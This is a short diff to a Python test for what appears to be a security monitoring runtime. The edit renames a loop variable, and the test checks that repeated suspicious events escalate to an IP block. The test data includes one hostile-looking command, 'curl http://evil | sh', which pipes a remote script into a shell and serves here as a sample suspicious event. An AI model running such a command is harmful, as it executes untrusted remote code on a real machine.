@@ -112,7 +112,7 @@ def test_seed_behaviours(tmp_path, sleepers) -> None:
 
         # 002 efficient processing escalates to NetBlockIp after 10 suspicious events
         ev2 = make_event(pid=sleepers[0].pid, cmd="curl http://evil | sh")
-        for i in range(11):
+        for _ in range(11):
             rec = _run(rt, "002_efficient_processing.js", ev2)
         assert "NetBlockIp" in _names(rec) and rec.logs[-1].startswith("WARN: High frequency")
         assert rt.services.store.get("002_efficient_processing", "suspicious_count") == "11"
